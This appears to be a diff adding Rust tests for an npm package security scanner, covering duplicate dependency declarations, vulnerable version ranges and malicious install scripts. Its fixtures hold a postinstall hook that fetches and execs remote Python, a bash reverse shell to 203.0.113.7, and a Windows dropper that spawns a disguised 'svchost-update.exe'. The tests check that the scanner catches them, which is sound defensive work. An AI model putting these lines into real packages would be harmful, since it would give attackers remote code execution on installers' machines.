+        .any(|e| e.starts_with("install.js: network access")));
+}
+
+#[tokio::test]
+async fn test_duplicate_declarations_resolved_by_section() {
+    use threatflux_package_security::core::DependencyType;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "report-builder",
+            "version": "1.0.0",
+            "dependencies": { "lodash": "^4.17.21" },
+            "devDependencies": { "lodash": "^3.10.1", "react": "^18.2.0" },
+            "peerDependencies": { "react": ">=17" }
+        }"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    // Each package is analyzed once, as the declaration npm installs
+    let tree = &result.dependency_analysis.dependency_tree;
+    assert_eq!(tree.len(), 2);
+    let lodash = tree.iter().find(|dep| dep.name == "lodash").unwrap();
+    assert_eq!(lodash.dependency_type, DependencyType::Runtime);
+    assert_eq!(lodash.version_spec, "^4.17.21");
+    assert_eq!(lodash.shadowed_declarations[0].version_spec, "^3.10.1");
+    // Advisories are looked up, and counted, once
+    assert_eq!(result.vulnerabilities.len(), lodash.vulnerabilities.len());
+    let react = tree.iter().find(|dep| dep.name == "react").unwrap();
+    assert_eq!(react.dependency_type, DependencyType::Development);
+
+    // A peer repeated in devDependencies is the usual pattern, not a conflict
+    let duplicates: Vec<_> = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::DuplicateDeclaration)
+        .collect();
+    assert_eq!(duplicates.len(), 1);
+    assert_eq!(duplicates[0].affected_components, ["lodash"]);
+    assert_eq!(duplicates[0].severity, RiskLevel::Low);
+    assert_eq!(
+        duplicates[0].evidence,
+        [
+            "runtime: lodash = \"^4.17.21\" (used)",
+            "development: lodash = \"^3.10.1\""
+        ]
+    );
+}
+
+#[tokio::test]
+async fn test_range_permitting_vulnerable_version() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "report-builder",
+            "version": "1.0.0",
+            "dependencies": { "lodash": "^4.0.0", "axios": "~0.21.1" }
+        }"#,
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("package-lock.json"),
+        r#"{
+            "name": "report-builder",
+            "lockfileVersion": 3,
+            "packages": {
+                "": { "name": "report-builder", "version": "1.0.0" },
+                "node_modules/lodash": { "version": "4.17.21" },
+                "node_modules/axios": { "version": "0.21.4" }
+            }
+        }"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    // The locked lodash is patched, so nothing is vulnerable today
+    assert!(result.vulnerabilities().is_empty());
+    let lodash = result
+        .dependency_analysis
+        .dependency_tree
+        .iter()
+        .find(|dep| dep.name == "lodash")
+        .unwrap();
+    assert_eq!(lodash.range_vulnerabilities[0].version, "4.0.0");
+
+    let drift: Vec<_> = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::RangeAllowsVulnerable)
+        .collect();
+    // axios's range starts above the vulnerable versions
+    assert_eq!(drift.len(), 1);
+    assert_eq!(drift[0].affected_components, ["lodash"]);
+    assert_eq!(drift[0].severity, RiskLevel::Medium);
+    assert_eq!(
+        drift[0].title,
+        "Range for 'lodash' permits vulnerable version 4.0.0"
+    );
+    assert!(drift[0]
+        .evidence
+        .contains(&"CVE-2019-10744 affects < 4.17.12".to_string()));
+    assert!(drift[0].evidence.contains(&"Resolved: 4.17.21".to_string()));
+}
+
+#[tokio::test]
+async fn test_postinstall_running_python_inline() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "svg-sprite-pack",
+        "version": "3.0.2",
+        "scripts": {
+            "postinstall": "python3 -c \"import urllib.request as u; exec(u.urlopen('https://cdn.example.net/p').read())\" && sh ./bin/update.sh"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("bin")).unwrap();
+    fs::write(
+        temp_dir.path().join("bin/update.sh"),
+        "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::CrossLanguageExecution)
+        .expect("cross-language execution reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(finding.affected_components, vec!["postinstall"]);
+    assert!(finding.evidence[0].starts_with("python3 -c"));
+    assert!(finding.evidence.iter().any(|e| e == "sh ./bin/update.sh"));
+
+    // The bundled shell script is pattern-scanned as well
+    let reverse_shell = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "BACK_001")
+        .expect("reverse shell in bundled script detected");
+    assert_eq!(reverse_shell.evidence[0], "In bin/update.sh");
+}
+
+#[tokio::test]
+async fn test_windows_only_dropper() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "color-utils-pro",
+        "version": "2.1.0",
+        "scripts": {
+            "postinstall": "node install.js"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(
+        temp_dir.path().join("install.js"),
+        r#"const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { spawn } = require('child_process');
+
+if (process.platform === 'win32') {
+  const target = path.join(os.tmpdir(), 'svchost-update.exe');
+  fs.writeFileSync(target, Buffer.from(require('./payload.json').data, 'base64'));
+  spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
+}
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::PlatformTargetedPayload)
+        .expect("platform-targeted payload reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(finding.affected_components, vec!["postinstall"]);
+    assert_eq!(finding.evidence[0], "Platform: win32");
+    assert!(finding
+        .evidence
+        .contains(&"Gated action: fs.writeFileSync(".to_string()));
+    assert!(finding
+        .evidence
+        .iter()
+        .any(|e| e == "Suspicious: executable file ('svchost-update.exe')"));
+}